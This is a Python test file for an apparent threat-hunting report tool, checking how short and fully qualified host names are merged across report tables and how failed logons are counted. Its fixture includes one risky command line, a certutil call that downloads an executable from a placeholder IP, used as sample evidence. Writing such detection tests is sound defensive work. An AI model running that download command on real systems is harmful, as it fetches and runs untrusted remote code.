"""One host, one name, in all that a report says."""

from collections.abc import Callable
from typing import Any

import polars as pl
import pytest

from huntkit.core.errors import HuntkitError
from huntkit.report import overview, sections
from huntkit.report.facts import Facts, gather
from huntkit.report.host_names import HostNames
from huntkit.report.summing import summed

Make = Callable[..., Any]
BAD = "certutil.exe -urlcache -f http://203.0.113.9/{}.exe a.exe"


def found_on(evidence: Make, process_rows: Make, *names: str) -> Facts:
    """A risky command line and a failed logon on each host."""
    rows = process_rows(
        *(
            {"DeviceName": name, "_record": at, "ProcessCommandLine": BAD.format(at)}
            for at, name in enumerate(names)
        )
    )
    failed = rows.with_columns(
        pl.lit("LogonFailed").alias("ActionType"), pl.lit("198.51.100.7").alias("RemoteIP"),
        pl.lit("Network").alias("LogonType"),
    )  # fmt: skip
    return gather(evidence({"DeviceProcessEvents": rows, "DeviceLogonEvents": failed}))


def shown(facts: Facts) -> list[list[str]]:
    columns = (
        facts.hosts["Host"], facts.risky["Host"], facts.failed_logons["Host"],
        facts.processes["DeviceName"], facts.logons.pairs["Host"],
    )  # fmt: skip
    return [sorted(column.unique()) for column in columns]


def test_a_short_name_and_its_only_full_name_are_shown_as_one(
    evidence: Make, process_rows: Make
) -> None:
    facts = found_on(
        evidence, process_rows, "WS6", "WS6.a.example", "ws6.A.example", "WS6.a.example"
    )
    assert shown(facts) == [["WS6.a.example"]] * 5
    assert [list(each) for each in facts.risky["Hosts"]] == [["WS6.a.example"]] * 4
    seen = facts.risky["Seen"].explode().struct.field("Host")
    assert set(seen) == {"WS6.a.example"}
    assert facts.failed_logons["Failures"].to_list() == [4]
    assert facts.logons.pairs["Failed"].to_list() == [4]
    assert {host for _, _, host in summed(facts).riskiest} == {"WS6.a.example"}
    assert {host for _, host in summed(facts).branches} == {"WS6.a.example"}


def test_hosts_taken_for_one_by_name_alone_are_told(evidence: Make, process_rows: Make) -> None:
    rows = process_rows(
        {"DeviceName": "WS6", "_record": 1, "_file": "a.json"},
        {"DeviceName": "WS6.a.example", "_record": 2, "_file": "b.json"},
        {"DeviceName": "WS7", "_record": 3, "_file": "a.json"},
        {"DeviceName": "WS7.a.example", "_record": 4, "_file": "a.json"},
    )
    facts = gather(evidence({"DeviceProcessEvents": rows}))
    [note] = facts.host_notes
    assert "no file names both: ws6 and WS6.a.example. " in note
    assert summed(facts).notes == [note]
    [hosts] = [each for each in sections.draw(facts) if each.id == "hosts"]
    assert hosts.blocks[0]["text"] == f"{note}."


def test_hosts_of_two_domains_and_a_short_name_that_fits_both_stay_apart(
    evidence: Make, process_rows: Make
) -> None:
    names = ["DC", "dc.a.example", "dc.b.example"]
    facts = found_on(evidence, process_rows, *names)
    assert shown(facts) == [names] * 5
    assert facts.failed_logons["Failures"].to_list() == [1, 1, 1]


def test_tables_count_each_host_once() -> None:
    names = HostNames(["WS6.a.example", "dc.a.example", "dc.b.example", "dc"])
    rows = pl.DataFrame({"hosts": [["WS6", "WS6.a.example", "dc.a.example", "dc"], []]})
    assert names.column(rows, "hosts")["hosts"].to_list() == [
        ["WS6.a.example", "dc", "dc.a.example"], [],
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("given", "told"),
    [
        ("ws6 and 3 more", "WS6.a.example and 3 more"), ("ws6", "WS6.a.example"),
        ("3 hosts", "3 hosts"), ("", ""), ("10", "10"),
    ],
)  # fmt: skip
def test_hosts_of_findings(given: str, told: str) -> None:
    assert HostNames(["WS6.a.example", "10.0.0.1"]).of_finding(given) == told


def test_where_hosts_could_not_be_counted_names_stay(
    evidence: Make, process_rows: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*_: Any) -> None:
        raise HuntkitError("no")

    monkeypatch.setattr(overview, "overview", fails)
    facts = found_on(evidence, process_rows, "WS6", "WS6.a.example")
    assert sorted(facts.risky["Host"]) == ["WS6", "WS6.a.example"]
